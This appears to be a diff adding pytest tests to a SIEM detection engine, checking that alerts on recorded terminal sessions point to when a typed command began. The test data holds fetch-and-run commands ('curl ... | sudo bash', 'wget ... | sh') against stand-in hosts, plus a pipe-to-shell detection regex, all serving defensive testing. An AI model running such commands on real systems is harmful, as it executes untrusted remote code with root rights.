@@ -10,6 +10,8 @@ import pytest
 
 from ingest.kube_audit import events_from_log_lines, parse_log_lines
 from siem.rules import BusinessHours, RuleError, SigmaEngine
+from siem.rules.sigma import locate_match
+from storage.search.model import encode_times
 
 FIXTURES = Path("/work/shared/fixtures")
 if not FIXTURES.is_dir():
@@ -300,3 +302,65 @@ def test_correlation_memory_is_bounded_by_max_groups() -> None:
     corr = engine._correlations[0]
     assert len(corr.groups) == 3
     assert all(len(w) <= corr.threshold for w in corr.groups.values())
+
+
+def _typed_segment(
+    prompt: str, command: str, *, prompt_ms: int, first_key_ms: int
+) -> dict[str, Any]:
+    """An output segment: the prompt written at once, then the command echoed key by key,
+    250 ms apart (the per-character ``times`` the segmenter stores)."""
+    text = prompt + command
+    times = [prompt_ms] * len(prompt) + [first_key_ms + 250 * i for i in range(len(command))]
+    return {
+        "kind": "output", "tenant": "t", "sid": "s9", "seg_no": 7, "id": "s9/7",
+        "start_ms": prompt_ms, "end_ms": times[-1],
+        "time_us": 1_767_607_200_000_000 + prompt_ms * 1000,
+        "time": "2026-01-05T10:00:00.500000Z", "text": text, "times": list(encode_times(times)),
+    }  # fmt: skip
+
+
+def test_output_alert_links_to_when_the_command_began_to_be_typed_not_to_the_prompt() -> (
+    None
+):
+    # The prompt was printed at 0.5 s; the user typed the command an hour later.
+    seg = _typed_segment("root@db-1:~# ", "curl -s https://x.example/i.sh | sudo bash",
+                         prompt_ms=500, first_key_ms=3_600_000)  # fmt: skip
+    alerts = [a for a in SigmaEngine.starter().evaluate(seg) if a["rule_id"] == CURL_SH]
+    assert len(alerts) == 1
+    assert alerts[0]["offset_ms"] == 3_600_000
+    assert alerts[0]["replay"] == "sessionvault play s9 --start-at 3600.000"
+    # the alert's time moves with it: session start (time_us - start_ms) + offset
+    assert alerts[0]["time"] == "2026-01-05T11:00:00.000000Z"
+    # same segment, same alert: the uid does not depend on where the match is
+    assert SigmaEngine.starter().evaluate(seg)[0]["uid"] == alerts[0]["uid"]
+
+
+def test_output_alert_without_per_character_times_falls_back_to_the_line_start() -> None:
+    seg = _typed_segment("$ ", "wget -qO- http://x/i.sh | sh", prompt_ms=1200, first_key_ms=9000)
+    del seg["times"]
+    alerts = [a for a in SigmaEngine.starter().evaluate(seg) if a["rule_id"] == CURL_SH]
+    assert alerts[0]["offset_ms"] == 1200
+
+
+@pytest.mark.parametrize(
+    ("text", "pattern", "start"),
+    [
+        ("$ curl x | sh", r"curl[^|]*\|\s*sh", 2),
+        ("a curl b curl c | sh", r"curl[^|]*\|\s*sh", 9),  # the occurrence that completes it
+        ("no match here", r"zzz", None),
+        ("xxab", r"ab", 2),
+    ],
+)
+def test_locate_match_finds_the_start_of_the_shortest_latest_window_that_fires(
+    text: str, pattern: str, start: int | None
+) -> None:
+    import re
+
+    rx = re.compile(pattern)
+    assert locate_match(text, lambda t: bool(rx.search(t))) == start
+
+
+def test_locate_match_gives_up_when_the_rule_does_not_depend_on_the_text() -> None:
+    assert locate_match("anything", lambda t: True) is None
+    # not monotone (fires only on the whole line): located nowhere rather than somewhere wrong
+    assert locate_match("abc", lambda t: t == "abc") in (0, None)
